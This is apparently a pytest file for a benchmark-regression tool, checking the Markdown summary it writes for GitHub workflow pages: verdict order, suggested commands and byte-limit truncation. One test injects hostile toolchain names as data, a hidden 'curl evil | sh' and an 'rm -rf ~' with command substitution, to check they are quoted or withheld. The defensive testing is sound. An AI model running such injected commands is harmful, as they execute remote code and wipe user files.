"""What a reader of a workflow's page sees: the verdict first, then what to do next, within GitHub's limits."""

from __future__ import annotations

from datetime import timedelta
from typing import TYPE_CHECKING

import msgspec
import pytest
from delivered import OTHER, deliver, gathered, judged, slow
from factories import CASE, NOON, make_broken, make_case, make_environment, make_record, make_report
from markdown_it import MarkdownIt

from regress.delivery import GRAVITY
from regress.report.finding import SYMBOLS, headline
from regress.report.markdown import BODY_BYTES, Links, section, summary
from regress.verdict import Verdict, missing

if TYPE_CHECKING:
    from pathlib import Path

RUN, SITE = "https://github.example/octo/kernels/actions/runs/7", "https://octo.github.example/kernels/"
LINKS = Links(run=RUN, site=SITE)


def test_every_state_has_a_word_and_a_symbol_of_its_own() -> None:
    """Nothing is said by colour, nor by a symbol that two share."""
    assert set(SYMBOLS) == set(GRAVITY)
    assert len(set(SYMBOLS.values())) == len(GRAVITY)


def test_a_loss_comes_first_with_its_numbers_and_the_next_step(tmp_path: Path) -> None:
    """Headline, table, and the commands that show it again and narrow it down; what passed is folded."""
    judged(tmp_path, make_record(slow(), make_case(OTHER), runner="orin", toolchain="tvm-0.27.0"))
    judged(tmp_path, make_record(runner="rtx"))
    text = summary(gathered(tmp_path, ["rtx", "orin", "away"]), LINKS)
    lines = text.splitlines()
    assert lines[0] == f"# ▼ orin: regressed: {CASE}: decode rate: loss 20.0%, tolerance 5.0%"
    assert lines[2] == "3 runners: 1 ▼ regressed, 1 ⊘ no data, 1 ✔ pass."
    assert [line.split()[2] for line in lines if line.startswith("## ")] == [
        "<code>orin</code>:",
        "<code>away</code>:",
        "<code>rtx</code>:",
    ]
    row = next(line for line in lines if line.startswith("| ▼"))
    assert row == (
        f"| ▼ **regressed** | <code>{CASE}</code> | decode rate | 50.0 ±1.0% (n=3) tokens/s "
        "| 40.0 ±0.0% (n=3) tokens/s | decode rate: loss 20.0%, tolerance 5.0% |"
    )
    assert "<details><summary>3 unremarkable rows</summary>" in text
    where = f"--baseline baselines/orin.toml --case {CASE}"
    assert (
        "```sh\n"
        f"regress check --toolchain tvm-0.27.0 {where}\n"
        f"regress compare tvm-0.26.0 tvm-0.27.0 {where}   # is it the toolchain, or the machine?\n"
        "```\n"
    ) in text
    assert "whether the runner <code>away</code> is online" in text
    assert f"[this run](<{RUN}>)" in text
    assert lines[-1] == f"[this run](<{RUN}>) · [the history of all runs](<{SITE}>)"


def test_the_machine_and_what_was_compared_stand_in_one_line(tmp_path: Path) -> None:
    """So that a reader need not open the record."""
    record = make_record(slow(), runner="orin", environment=make_environment(device="Orin", driver="540.4"))
    judged(tmp_path, record)
    assert (
        "<code>tvm-0.26.0</code> against <code>tvm-0.26.0</code> as stored in <code>baselines/orin.toml</code>, "
        f"on <code>Orin</code>, driver 540.4, Debian GNU/Linux 12, Python 3.11; record <code>{record.id}</code>"
    ) in summary(gathered(tmp_path, ["orin"]), Links())


def test_what_passed_says_so_in_few_words(tmp_path: Path) -> None:
    """And nothing is to be done."""
    judged(tmp_path, make_record(runner="orin"))
    text = summary(gathered(tmp_path, ["orin"]), Links())
    assert text.startswith("# ✔ pass: 1 runner\n")
    assert "Next" not in text
    assert "had no room" not in text


@pytest.mark.parametrize(
    ("verdict", "command", "question"),
    [
        (
            missing(CASE, "other_environment", "another machine"),
            "run",
            "is the machine the one that the references are of?",
        ),
        (
            Verdict(case=CASE, outcome="inconclusive", reason="too_noisy", text="too noisy to decide"),
            "check",
            "what disturbs the machine?",
        ),
    ],
)
def test_what_cannot_be_told_has_its_own_next_step(
    tmp_path: Path, verdict: Verdict, command: str, question: str
) -> None:
    """The command that would tell, and a look at the machine."""
    record = make_record(runner="orin", toolchain="tvm-0.27.0")
    deliver(tmp_path, record, make_report(record, make_record(), verdicts=[verdict]))
    assert (
        f"```sh\nregress {command} --toolchain tvm-0.27.0 --baseline baselines/orin.toml --case {CASE}\n"
        f"regress doctor --baseline baselines/orin.toml   # {question}\n```"
    ) in summary(gathered(tmp_path, ["orin"]), Links())


def test_a_broken_build_says_what_helps_against_it(tmp_path: Path) -> None:
    """The reference is built again, and packages of different days are named."""
    judged(tmp_path, make_record(make_broken(), runner="orin", toolchain="tvm-0.27.0"), make_record(runner="orin"))
    text = summary(gathered(tmp_path, ["orin"]), Links())
    assert "regress build --toolchain tvm-0.26.0" in text
    assert "- resolve the toolchain as of its release day: as&#95;of = YYYY-MM-DD\n" in text.replace(
        "as_of", "as&#95;of"
    )


def test_a_name_that_cannot_be_seen_whole_is_not_offered_to_a_shell(tmp_path: Path) -> None:
    """What looks like one command must not be another."""
    judged(tmp_path, make_record(slow(), runner="orin", toolchain="tvm\u202e; curl evil | sh #"))
    text = summary(gathered(tmp_path, ["orin"]), Links())
    assert "```" not in text
    judged(tmp_path / "2", make_record(slow(), runner="orin", toolchain="a b; rm -rf ~ `id`"))
    assert "--toolchain 'a b; rm -rf ~ `id`' --baseline" in summary(gathered(tmp_path / "2", ["orin"]), Links())


def test_files_that_say_nothing_are_named(tmp_path: Path) -> None:
    """Those of a runner in its section, those of nobody on top."""
    path = judged(tmp_path, make_record(runner="orin"))
    (path.parent / "cut.json").write_text("{")
    (tmp_path / "stray.json").write_text("{")
    judged(tmp_path, make_record(runner="rtx"))
    text = summary(gathered(tmp_path, ["orin"]), Links())
    assert "- damaged: <code>stray.json</code>: " in text
    assert "- of a runner that was not planned: <code>rtx/2026/10/" in text
    assert "| ⚠ **damaged** | <code>orin/2026/10/cut.json</code> | delivery |" in text


def test_a_headline_of_nothing_is_no_data(tmp_path: Path) -> None:
    """Never an empty page."""
    (tmp_path / "stray.json").write_text("{")
    judged(tmp_path, make_record(runner="orin"))
    assert headline(gathered(tmp_path, ["orin"])).startswith("damaged: stray.json: ")


@pytest.mark.parametrize("limit", [700, 2_000, 5_000, 20_000, BODY_BYTES, 300_000])
def test_a_summary_is_cut_by_whole_rows_the_least_grave_first(tmp_path: Path, limit: int) -> None:
    """Each limit holds in bytes; what is left out is counted; a loss is the last thing to go."""
    keys = [f"modèle{number}/q4f16_1/llvm/p64+16" for number in range(150)]
    for name in ("one", "two"):
        record = make_record(*(make_case(key) for key in keys[:-1]), slow(keys[-1]), runner=name)
        judged(tmp_path, record)
    text = summary(gathered(tmp_path, ["one", "two", "away"]), LINKS, limit)
    assert len(text.encode()) <= limit
    rows = [line for line in text.splitlines() if line.startswith("| ") and "**" in line]
    assert all(line.count(" | ") == 5 and line.endswith(" |") for line in rows)
    total = 2 * 300 + 1
    left_out = f"{total - len(rows)} rows had no room here; the least grave are left out"
    assert (left_out in text) == (len(rows) < total)
    if limit >= 5_000:
        assert sum("**regressed**" in line for line in rows) == 2
    assert text.count("<details>") == text.count("</details>")
    tables = [token for token in MarkdownIt("gfm-like").parse(text) if token.type == "table_open"]
    assert len(tables) == sum(line.startswith("| verdict ") for line in text.splitlines())


def test_a_hostile_report_stays_within_the_limit_of_a_comment(tmp_path: Path) -> None:
    """Names and texts as long as a file may be."""
    record = make_record(slow(), runner="orin", toolchain="|`<@#" * 9_000, at=NOON + timedelta(days=1))
    record = msgspec.structs.replace(record, id="x")
    path = deliver(tmp_path, record, None)
    report = make_report(record, make_record(toolchain="&" * 90_000))
    verdicts = tuple(msgspec.structs.replace(each, text="*" * 50_000) for each in report.verdicts)
    path.with_name("x.check.json").write_bytes(
        msgspec.json.encode(msgspec.structs.replace(report, verdicts=verdicts * 30))
    )
    for number in range(300):
        (tmp_path / f"{'|' * 200}{number}.json").write_text("{")
    deliveries = gathered(tmp_path, ["orin"])
    assert deliveries.runners[0].state == "regressed"
    text = summary(deliveries, Links(), BODY_BYTES)
    assert len(text.encode()) <= BODY_BYTES
    assert "- and 280 more files" in text
    assert len(section(deliveries.runners[0], Links()).encode()) <= BODY_BYTES
